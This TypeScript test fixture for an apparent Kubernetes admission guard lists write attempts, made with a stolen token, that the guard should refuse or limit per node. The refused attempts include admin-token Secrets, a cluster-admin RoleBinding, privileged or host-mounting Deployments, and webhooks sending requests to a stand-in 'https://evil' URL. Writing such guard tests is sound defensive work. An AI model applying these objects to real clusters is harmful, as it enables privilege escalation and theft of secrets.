/**
 * Attempted writes with a stolen token: those that the limits of deploy/ refuse, and those that they allow
 * for one node.
 */
import { systemNamespace as system } from '../../guard/guard.ts';
import type { Write } from './write-limits.fixture.ts';

export const rbac = 'rbac.authorization.k8s.io';
export const webhooks = 'admissionregistration.k8s.io';

export const meta = (name: string, namespace?: string, more: object = {}) => ({
  metadata: { name, ...(namespace !== undefined && { namespace }), ...more },
});
const serverLabels = {
  labels: { 'app.kubernetes.io/managed-by': 'rampart', 'kubewarden/policy-server': 'default' },
};
const deployment = (podSpec: object, name = 'policy-server-default'): object => ({
  ...meta(name, system, serverLabels),
  spec: { template: { spec: { containers: [{ name: 'x', image: 'x' }], ...podSpec } } },
});
const hook = (clientConfig: object, rule: object = {}, more: object = {}): object => ({
  ...meta('clusterwide-x', undefined, serverLabels),
  webhooks: [
    {
      name: 'clusterwide-x.kubewarden.admission',
      clientConfig,
      rules: [
        {
          apiGroups: ['apps'],
          resources: ['deployments'],
          operations: ['CREATE'],
          apiVersions: ['v1'],
          ...rule,
        },
      ],
      namespaceSelector: {
        matchExpressions: [
          { key: 'kubernetes.io/metadata.name', operator: 'NotIn', values: [system, 'kube-system'] },
        ],
      },
      ...more,
    },
  ],
});
const toServer = {
  service: { namespace: system, name: 'policy-server-default', path: '/validate/clusterwide-x' },
  caBundle: '',
};
export const roleBinding = (role: string, subject: object = {}): object => ({
  ...meta('rampart-agent-file-integrity', 'kube-system'),
  roleRef: { apiGroup: rbac, kind: 'ClusterRole', name: role },
  subjects: [{ kind: 'ServiceAccount', name: 'rampart-agent', namespace: system, ...subject }],
});

type Attempt = Pick<Write, 'operation' | 'group' | 'resource'> & Partial<Write>;
export const create = (group: string, resource: string, object: object): Attempt => ({
  operation: 'CREATE',
  group,
  resource,
  object,
});
export const update = (group: string, resource: string, object: object, oldObject: object): Attempt => ({
  operation: 'UPDATE',
  group,
  resource,
  object,
  oldObject,
});
export const remove = (group: string, resource: string, oldObject: object): Attempt => ({
  operation: 'DELETE',
  group,
  resource,
  oldObject,
});
const otherSpec = (group: string, resource: string): Attempt =>
  update(
    group,
    resource,
    { ...meta('x', 'a'), spec: { a: 1, evil: true } },
    { ...meta('x', 'a'), spec: { a: 1 } },
  );

/** Writes that RBAC allows literally, and a limit refuses. */
export const attacks: Readonly<Record<string, Attempt>> = {
  'a Secret that becomes the token of an administrator': create('', 'secrets', {
    ...meta('file-integrity-baseline-key', 'kube-system', {
      annotations: { 'kubernetes.io/service-account.name': 'clusterrole-aggregation-controller' },
    }),
    type: 'kubernetes.io/service-account-token',
  }),
  'a token of the agent among the Secrets of policy servers': create('', 'secrets', {
    ...meta('policy-server-x', system, {
      ...serverLabels,
      annotations: { 'kubernetes.io/service-account.name': 'rampart-agent' },
    }),
    type: 'kubernetes.io/service-account-token',
  }),
  'a bootstrap token': create('', 'secrets', {
    ...meta('bootstrap-token-abcdef', 'kube-system'),
    type: 'bootstrap.kubernetes.io/token',
  }),
  'a Secret of others in the system namespace': update(
    '',
    'secrets',
    { ...meta('receiver', system), type: 'Opaque' },
    { ...meta('receiver', system), type: 'Opaque' },
  ),
  'users of a cloud': update(
    '',
    'configmaps',
    meta('aws-auth', 'kube-system', { labels: { 'file-integrity.openshift.io/owner': 'x' } }),
    meta('aws-auth', 'kube-system'),
  ),
  'users of a cloud, anew': create(
    '',
    'configmaps',
    meta('aws-auth', 'kube-system', {
      labels: { 'file-integrity.openshift.io/owner': 'x', 'file-integrity.openshift.io/aide-conf': '' },
    }),
  ),
  'whom pods take for the API': update(
    '',
    'configmaps',
    meta('kube-root-ca.crt', 'a', { labels: { 'file-integrity.openshift.io/owner': 'x' } }),
    meta('kube-root-ca.crt', 'a'),
  ),
  'a ConfigMap of others goes': remove('', 'configmaps', meta('config', 'a')),
  'a binding to another role': create(rbac, 'rolebindings', roleBinding('cluster-admin')),
  'a binding for somebody else': create(
    rbac,
    'rolebindings',
    roleBinding('rampart-agent-file-integrity', { name: 'eve' }),
  ),
  'a binding of another name': create(rbac, 'rolebindings', {
    ...roleBinding('rampart-agent-file-integrity'),
    ...meta('x', 'a'),
  }),
  'a privileged Deployment': create(
    'apps',
    'deployments',
    deployment({ containers: [{ name: 'x', image: 'x', securityContext: { privileged: true } }] }),
  ),
  'a Deployment with capabilities': create(
    'apps',
    'deployments',
    deployment({
      containers: [{ name: 'x', image: 'x', securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }],
    }),
  ),
  'a Deployment with init containers': create(
    'apps',
    'deployments',
    deployment({ initContainers: [{ name: 'x', image: 'x' }] }),
  ),
  'a Deployment with the root of the node': create(
    'apps',
    'deployments',
    deployment({ volumes: [{ name: 'x', hostPath: { path: '/' } }] }),
  ),
  'a Deployment that projects another token': create(
    'apps',
    'deployments',
    deployment({ volumes: [{ name: 'x', projected: {} }] }),
  ),
  'a Deployment with the processes of the node': create('apps', 'deployments', deployment({ hostPID: true })),
  'a Deployment in the network of the node': create('apps', 'deployments', deployment({ hostNetwork: true })),
  'a Deployment that is the agent': create(
    'apps',
    'deployments',
    deployment({ serviceAccountName: 'rampart-agent' }),
  ),
  'a Deployment that is the operator, by the old field': create(
    'apps',
    'deployments',
    deployment({ serviceAccount: 'rampart-operator' }),
  ),
  'the Deployment of the operator itself': update(
    'apps',
    'deployments',
    deployment({}, 'rampart-operator'),
    deployment({}, 'rampart-operator'),
  ),
  'a Service with addresses of others': create('', 'services', {
    ...meta('policy-server-default', system, serverLabels),
    spec: { type: 'ClusterIP', externalIPs: ['10.0.0.1'] },
  }),
  'a Service that is a name elsewhere': create('', 'services', {
    ...meta('policy-server-default', system, serverLabels),
    spec: { type: 'ExternalName', externalName: 'kubernetes.default.svc' },
  }),
  'a webhook that calls a URL': create(
    webhooks,
    'mutatingwebhookconfigurations',
    hook({ url: 'https://evil' }),
  ),
  'a webhook that reads Secrets by a URL': create(
    webhooks,
    'validatingwebhookconfigurations',
    hook({ url: 'https://evil' }),
  ),
  'a webhook of a Service elsewhere': create(
    webhooks,
    'mutatingwebhookconfigurations',
    hook({ service: { namespace: 'a', name: 'policy-server-default' } }),
  ),
  'a webhook that changes what roles allow': create(
    webhooks,
    'mutatingwebhookconfigurations',
    hook(toServer, { apiGroups: [rbac], resources: ['*'] }),
  ),
  'a webhook that changes everything': create(
    webhooks,
    'mutatingwebhookconfigurations',
    hook(toServer, { apiGroups: ['*'], resources: ['*'] }),
  ),
  'a token of the agent': create('', 'serviceaccounts/token', meta('rampart-agent', system)),
  'a token of the operator that outlives its pod': create(
    '',
    'serviceaccounts/token',
    meta('rampart-operator', system),
  ),
  'a token of an account elsewhere': create('', 'serviceaccounts/token', meta('default', 'kube-system')),
  'a webhook that asks for tokens': create(
    webhooks,
    'mutatingwebhookconfigurations',
    hook(toServer, { apiGroups: [''], resources: ['serviceaccounts/token'] }),
  ),
  "a webhook that changes the cluster's own pods": create(
    webhooks,
    'mutatingwebhookconfigurations',
    hook(toServer, { apiGroups: [''], resources: ['pods'] }, { namespaceSelector: {} }),
  ),
  'a webhook of another product': update(
    webhooks,
    'validatingwebhookconfigurations',
    hook(toServer),
    meta('gatekeeper'),
  ),
  'a webhook of another product goes': remove(
    webhooks,
    'validatingwebhookconfigurations',
    meta('gatekeeper'),
  ),
  'a namespace of others': create('', 'namespaces', meta('x')),
  'eBPF of its own in all kernels': otherSpec('bpfman.io', 'kprobeprograms'),
  'eBPF of its own in pods': otherSpec('bpfman.io', 'uprobensprograms'),
  'files of its own in containers': otherSpec('kivebpf.san7o.github.io', 'kivepolicies'),
  'a policy of its own': otherSpec('policies.kubewarden.io', 'clusteradmissionpolicies'),
  'a policy server of its own': otherSpec('policies.kubewarden.io', 'policyservers'),
};

const bootId = '0b7e5d0e-6a5f-4a44-9d7f-3f2b7c1d9a10';
const lease = (name: string, node: string): object =>
  meta(name, system, { labels: { 'rampart.dev/agent': node }, annotations: { 'rampart.dev/node': node } });
const kernel = (holder: string): object => ({
  ...meta(bootId, system, { labels: { 'rampart.dev/kernel': bootId } }),
  spec: { holderIdentity: holder },
});
export const kiveData = (node: string, more: object = {}): object => ({
  ...meta('kive-data-x', 'kivebpf-system', { annotations: { 'node-name': node }, ...more }),
  spec: { inodeNo: 1 },
});
const bpf = (node: string): object =>
  meta('x-0123', undefined, { labels: { 'kubernetes.io/hostname': node } });
const result = (node: string): object =>
  meta(`aide-x-${node}`, 'a', {
    labels: { 'file-integrity.openshift.io/owner': 'x', 'file-integrity.openshift.io/node': node },
  });

/** By the agent of a node: what it does for a node, and it may for its own alone. */
export const perNode: Readonly<Record<string, (node: string) => Attempt>> = {
  'the lease of an agent': (node) =>
    update(
      'coordination.k8s.io',
      'leases',
      lease(`rampart-agent-${node}`, node),
      lease(`rampart-agent-${node}`, node),
    ),
  'the first lease of an agent': (node) =>
    create('coordination.k8s.io', 'leases', lease(`rampart-agent-${node}`, node)),
  'the first lease of a kernel': (node) => create('coordination.k8s.io', 'leases', kernel(`${node}_1`)),
  'KiveData that is made': (node) => create('kivebpf.san7o.github.io', 'kivedata', kiveData(node)),
  'KiveData that is changed': (node) =>
    update('kivebpf.san7o.github.io', 'kivedata', kiveData(node), kiveData(node)),
  'KiveData that is deleted': (node) => remove('kivebpf.san7o.github.io', 'kivedata', kiveData(node)),
  'a KiveNodeStatus': (node) =>
    update(
      'kivebpf.san7o.github.io',
      'kivenodestatuses',
      meta(node, 'kivebpf-system'),
      meta(node, 'kivebpf-system'),
    ),
  'a KiveNodeStatus that is deleted': (node) =>
    remove('kivebpf.san7o.github.io', 'kivenodestatuses', meta(node, 'kivebpf-system')),
  'a BpfProgram': (node) => create('bpfman.io', 'bpfprograms', bpf(node)),
  'a BpfNsProgram that is deleted': (node) => remove('bpfman.io', 'bpfnsprograms', bpf(node)),
  'the status of a BpfProgram': (node) => update('bpfman.io', 'bpfprograms/status', bpf(node), bpf(node)),
  'a result': (node) => create('', 'configmaps', result(node)),
  'a result again': (node) => update('', 'configmaps', result(node), result(node)),
};

/** Writes that no agent may make, whichever node it is on. */
export const ofNoAgent: Readonly<Record<string, Attempt>> = {
  'the leadership of the operator': update(
    'coordination.k8s.io',
    'leases',
    meta('rampart-operator', system),
    meta('rampart-operator', system),
  ),
  'an object of another node for its own': update(
    'kivebpf.san7o.github.io',
    'kivedata',
    kiveData('here'),
    kiveData('there'),
  ),
  'its object for another node': update(
    'kivebpf.san7o.github.io',
    'kivedata',
    kiveData('there'),
    kiveData('here'),
  ),
  'a configuration of file integrity': update(
    '',
    'configmaps',
    meta('x', 'a', { labels: { 'file-integrity.openshift.io/aide-conf': '' } }),
    meta('x', 'a', { labels: { 'file-integrity.openshift.io/aide-conf': '' } }),
  ),
  'a ConfigMap of others': update(
    '',
    'configmaps',
    {
      ...result('here'),
      ...meta('aide-x-there', 'a', {
        labels: { 'file-integrity.openshift.io/owner': 'x', 'file-integrity.openshift.io/node': 'here' },
      }),
    },
    meta('aide-x-there', 'a'),
  ),
  'data of another kernel that is going, changed': update(
    'kivebpf.san7o.github.io',
    'kivedata',
    { ...kiveData('there', { deletionTimestamp: '2026-01-01T00:00:00Z' }), spec: { inodeNo: 2 } },
    kiveData('there', { deletionTimestamp: '2026-01-01T00:00:00Z' }),
  ),
};
